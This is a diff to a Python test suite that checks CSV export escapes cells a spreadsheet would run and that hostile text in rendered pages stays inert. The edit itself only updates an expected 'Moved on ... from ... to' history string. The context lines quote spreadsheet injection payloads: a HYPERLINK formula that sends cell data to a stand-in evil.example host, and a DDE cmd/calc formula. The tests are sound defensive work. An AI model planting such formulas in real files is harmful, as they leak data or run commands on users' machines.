@@ -302,7 +302,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?x="&B3,"Click")'
     assert row["topic_name"] == "'+1+1"
     assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-    assert row["history"].startswith("Moved from")
+    assert row["history"].startswith("Moved on Thursday 1 May 2014 from Tuesday 13 May 2014 to ")
     data = json.loads("".join(json_lines(releases)))
     assert data[0]["title"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet
 
@@ -371,7 +371,8 @@ def test_hostile_text_everywhere_stays_text(tmp_path):
     assert "b" not in page.tags and "onmouseover" not in str(page.rows)
     shown = "".join(page.text)
     raw = NASTY.replace('\\"', '"')  # as TOML reads it
-    for where in ("Office ", "Moved from Tuesday 13 May 2014: moved ", "cancelled ", "early ",
+    moved = "Moved on Thursday 1 May 2014 from Tuesday 13 May 2014 to Wednesday 14 May 2014: moved "
+    for where in ("Office ", moved, "cancelled ", "early ",
                   "paused ", "ended ", "Odd "):  # fmt: skip
         assert where + raw in shown, where
 
